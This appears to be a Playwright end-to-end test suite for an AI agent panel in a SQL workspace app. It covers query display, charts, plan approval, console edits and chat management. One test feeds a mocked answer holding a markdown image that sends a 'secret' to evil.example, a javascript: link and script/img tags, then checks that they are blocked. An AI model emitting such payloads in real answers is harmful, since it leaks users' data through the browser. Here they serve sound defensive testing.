import type { Page } from "@playwright/test";
import { expect, expectAccessible, test } from "./fixtures";

/*
 * The agent in the browser, against the assistant that needs no network: it asks the sample shop by the real tools.
 */

const panel = (page: Page) => page.getByRole("complementary", { name: "Agent" });
const field = (page: Page) => page.getByRole("textbox", { name: "Message to the agent" });

async function open(page: Page, slug: string): Promise<void> {
  await page.goto(`/w/${slug}`);
  await page.getByRole("button", { name: "Agent", exact: true }).click();
  await expect(field(page)).toBeFocused();
}

async function ask(page: Page, text: string): Promise<void> {
  await field(page).fill(text);
  await page.keyboard.press("Enter");
  await expect(panel(page).locator(".me").last()).toContainText(text);
  await expect(panel(page).getByRole("button", { name: "Helpful", exact: true }).last()).toBeVisible({
    timeout: 30_000,
  });
}

/** Answers the next turn in the ai SDK's own chunks, as a model would that says this. */
async function answerWith(page: Page, chunks: object[]): Promise<void> {
  await page.route("**/api/agent/chat", (route) => {
    const body = [...chunks.map((chunk) => JSON.stringify(chunk)), "[DONE]"]
      .map((line) => `data: ${line}\n\n`)
      .join("");
    return route.fulfill({
      status: 200,
      headers: { "content-type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" },
      body,
    });
  });
}

function said(text: string): object[] {
  return [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    { type: "text-start", id: "1" },
    { type: "text-delta", id: "1", delta: text },
    { type: "text-end", id: "1" },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ];
}

test("a question is answered by a query that is shown, and the chat is there after a reload", async ({
  page,
  person,
}) => {
  await open(page, person.slug);
  await expectAccessible(page);
  await ask(page, "How many orders are there?");
  const card = panel(page).getByRole("button", { name: /Ran a query/ });
  await expect(card).toBeVisible();
  await expect(panel(page).locator(".sqls")).toContainText(/select/i);
  await expect(panel(page).getByRole("region", { name: "First rows" })).toContainText("100000");
  await expectAccessible(page);
  await page.reload();
  await expect(panel(page).locator(".me")).toBeVisible();
  await expect(panel(page).getByRole("button", { name: /Ran a query/ })).toBeVisible();
  await panel(page).getByRole("button", { name: "Open in a console" }).click();
  await expect(page.locator(".cm-content").first()).toContainText(/select/i);
});

test("the panel is opened and put away by its shortcut, and keeps its width", async ({ page, person }) => {
  await page.goto(`/w/${person.slug}`);
  await page.keyboard.press("ControlOrMeta+j");
  await expect(field(page)).toBeFocused();
  const edge = page.getByRole("separator", { name: "Width of the agent" });
  await edge.press("ArrowLeft");
  await expect(edge).toHaveAttribute("aria-valuenow", "396");
  await page.reload();
  await expect(edge).toHaveAttribute("aria-valuenow", "396");
  await page.keyboard.press("ControlOrMeta+j");
  await expect(panel(page)).toHaveCount(0);
});

test("the panel opens when the line was cut before its first use, and what is typed stays", async ({
  page,
  context,
  person,
  consolePage,
}) => {
  await page.goto(`/w/${person.slug}`);
  // Its script comes in a quiet moment after the page.
  await expect(page.locator("html[data-agent-loaded]")).toBeAttached();
  // The rest of the page has its own parts to load.
  await expect(consolePage.editor).toBeFocused();
  await context.setOffline(true);
  // By its key: a pointer over the button would ask for the tip's script.
  await page.keyboard.press("ControlOrMeta+j");
  await field(page).fill("How many orders are there?");
  await page.keyboard.press("Enter");
  await expect(
    panel(page)
      .getByText(/Check the network|You are offline/)
      .first(),
  ).toBeVisible();
  await context.setOffline(false);
});

test("a link of an answer shows its host, and no image, markup or script of it reaches the browser (T65)", async ({
  page,
  person,
}) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await answerWith(
    page,
    said(
      '![x](https://evil.example/?d=secret) [Our docs](https://evil.example/docs) [run](javascript:alert(1)) <img src="https://evil.example/2.png"> <script>alert(1)</script>',
    ),
  );
  await open(page, person.slug);
  await ask(page, "Say something");
  const answer = panel(page).locator(".answer");
  await expect(answer.getByRole("link", { name: "Our docs" })).toHaveAttribute("rel", /noreferrer/);
  await expect(answer).toContainText("(evil.example)");
  await expect(answer.getByRole("link")).toHaveCount(1);
  await expect(answer.locator("img, script, iframe")).toHaveCount(0);
  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
});

test("a failure within the stream says what to do, and the question can be asked again", async ({ page, person }) => {
  await answerWith(page, [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "error", errorText: "The model's provider has too much to do. Wait a little, then try again." },
    { type: "finish", finishReason: "error" },
  ]);
  await open(page, person.slug);
  await field(page).fill("How many orders are there?");
  await page.keyboard.press("Enter");
  await expect(panel(page).getByRole("alert")).toContainText("Wait a little, then try again.");
  await page.unroute("**/api/agent/chat");
  await panel(page).getByRole("button", { name: "Try again" }).click();
  await expect(panel(page).getByRole("button", { name: /Ran a query/ })).toBeVisible({ timeout: 30_000 });
});

test("an answer is stopped, and the question can be changed and sent anew", async ({ page, person }) => {
  // Nothing comes, as from a model that thinks for long.
  await page.route("**/api/agent/chat", () => {});
  await open(page, person.slug);
  await field(page).fill("How many orders are there?");
  await page.keyboard.press("Enter");
  await panel(page).getByRole("button", { name: "Stop" }).click();
  await expect(panel(page).getByRole("button", { name: "Send", exact: true })).toBeVisible();
  await page.unroute("**/api/agent/chat");
  await panel(page).getByRole("button", { name: "Edit and send again" }).click();
  await expect(field(page)).toHaveValue("How many orders are there?");
  await ask(page, "How many customers are there?");
  await expect(panel(page).getByRole("button", { name: /Ran a query/ })).toBeVisible();
});

test("a chart of the agent is drawn over the rows that its query has shown", async ({ page, person }) => {
  const rows = [
    { week: "W45", extra: 9 },
    { week: "W46", extra: 41 },
  ];
  const fields = [
    { name: "week", type: "string" },
    { name: "extra", type: "int64" },
  ];
  const spec = {
    mark: "bar",
    encoding: { x: { field: "week", type: "nominal" }, y: { field: "extra", type: "quantitative" } },
  };
  await answerWith(page, [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    { type: "tool-input-available", toolCallId: "q", toolName: "run_query", input: { query: "select 1" } },
    {
      type: "tool-output-available",
      toolCallId: "q",
      output: { executionId: "e", fields, rows, rowCount: 2, truncated: false, durationMs: 3, resultId: "r" },
    },
    { type: "tool-input-available", toolCallId: "c", toolName: "create_chart", input: { title: "Extra", spec } },
    { type: "tool-output-available", toolCallId: "c", output: { chart: { title: "Extra", spec, resultId: "r" } } },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ]);
  await open(page, person.slug);
  await ask(page, "Draw it");
  const chart = panel(page).getByRole("img", { name: "Extra, 2 points" });
  await expect(chart.locator("svg path[aria-roledescription='bar'], svg .mark-rect path")).toHaveCount(2);
  await expectAccessible(page);
});

test("a plan waits for the person, who gives less than was asked for", async ({ page, person }) => {
  const agentSessionId = crypto.randomUUID();
  await answerWith(page, [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    {
      type: "tool-input-available",
      toolCallId: "call",
      toolName: "propose_plan",
      input: { agentSessionId, planMarkdown: "1. Save the console", grants: ["console-write", "query-write"] },
    },
    {
      type: "tool-output-available",
      toolCallId: "call",
      output: { agentSessionId, status: "pending", grants: [], expiresAt: null, planMarkdown: null, decidedAt: null },
    },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ]);
  await open(page, person.slug);
  await ask(page, "Save it");
  await expect(panel(page).getByText("Plan, waiting for you")).toBeVisible();
  let sent: unknown = null;
  await page.route("**/api/agent/plan-decision", (route) => {
    sent = route.request().postDataJSON();
    return route.fulfill({
      json: { success: true, data: { agentSessionId, status: "approved", grants: ["console-write"], expiresAt: null } },
    });
  });
  await panel(page)
    .getByRole("checkbox", { name: /query-write/ })
    .uncheck();
  await panel(page).getByRole("button", { name: "Approve plan" }).click();
  await expect(panel(page).getByText("Plan approved")).toBeVisible();
  expect(sent).toEqual({ agentSessionId, decision: "approve", grants: ["console-write"] });
});

test("SQL of an answer becomes an edit of the open console, accepted and taken back", async ({
  page,
  person,
  consolePage,
}) => {
  await answerWith(page, said("Try this:\n\n```sql\nselect 42 as answer\n```"));
  await open(page, person.slug);
  await expect(consolePage.editor).toBeVisible();
  const before = (await consolePage.editor.textContent()) ?? "";
  await ask(page, "Write a query");
  await panel(page).getByRole("button", { name: "Put into the console" }).click();
  await panel(page).getByRole("button", { name: "Accept" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText("select 42 as answer");
  await panel(page).getByRole("button", { name: "Undo" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText(before);
});

test("a failed query is handed to the agent with its error", async ({ page, person, consolePage }) => {
  await page.goto(`/w/${person.slug}`);
  await consolePage.write("select nothing_here from orders");
  await consolePage.run.click();
  await answerWith(page, said("The column is called id.\n\n```sql\nselect id from orders\n```"));
  await page.getByRole("button", { name: "Fix this error" }).click();
  const sent = panel(page).locator(".me");
  await expect(sent).toContainText("nothing_here");
  await expect(sent).toContainText("select nothing_here from orders");
  await expect(panel(page).getByText("The column is called id.")).toBeVisible();
  await expect(panel(page).getByText("Proposed edit")).toBeVisible();
  await panel(page).getByRole("button", { name: "Accept" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText("select id from orders");
});

test("chats are listed, found, renamed and deleted", async ({ page, person }) => {
  await open(page, person.slug);
  await ask(page, "How many orders are there?");
  await panel(page).getByRole("button", { name: "New chat" }).click();
  await ask(page, "How many customers are there?");
  await panel(page).getByRole("button", { name: "Chats", exact: true }).click();
  const rows = panel(page).locator(".chat-open");
  await expect(rows).toHaveCount(2);
  await expectAccessible(page);
  await page.getByRole("searchbox", { name: "Search chats" }).fill("customers");
  await expect(rows).toHaveCount(1);
  await rows.first().press("F2");
  await page.getByRole("textbox", { name: "Title of the chat" }).fill("Customers counted");
  await page.keyboard.press("Enter");
  await expect(rows).toContainText("Customers counted");
  await page.getByRole("button", { name: "More about Customers counted" }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("button", { name: "Delete chat" }).click();
  await page.getByRole("button", { name: "Clear the search" }).click();
  await expect(rows).toHaveCount(1);
  await expect(rows).toContainText("orders");
});

test("a table is named from the list behind @, and a thumb is kept with its word", async ({ page, person }) => {
  await open(page, person.slug);
  await field(page).pressSequentially("How many @custo");
  await page.getByRole("option", { name: /^customers/ }).click();
  await expect(field(page)).toHaveValue("How many @customers ");
  await field(page).pressSequentially("are there?");
  await page.keyboard.press("Enter");
  await expect(panel(page).locator(".me .mention")).toHaveText("customers");
  const thumb = panel(page).getByRole("button", { name: "Not helpful" });
  await thumb.click({ timeout: 30_000 });
  await page.getByRole("textbox", { name: "A word why" }).fill("Wrong table");
  const kept = page.waitForResponse(
    (answer) => answer.url().endsWith("/feedback") && answer.request().postData()?.includes("Wrong table") === true,
  );
  await page.keyboard.press("Enter");
  expect((await kept).status()).toBe(200);
  await page.reload();
  await expect(panel(page).getByRole("button", { name: "Not helpful" })).toHaveAttribute("aria-pressed", "true");
});

test("on a phone the agent is a view of its own", async ({ page, person }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`/w/${person.slug}`);
  await page.getByRole("button", { name: "More", exact: true }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Agent" }).click();
  await ask(page, "How many orders are there?");
  await expectAccessible(page);
  await panel(page).getByRole("button", { name: "Hide the agent" }).click();
  await expect(panel(page)).toHaveCount(0);
});
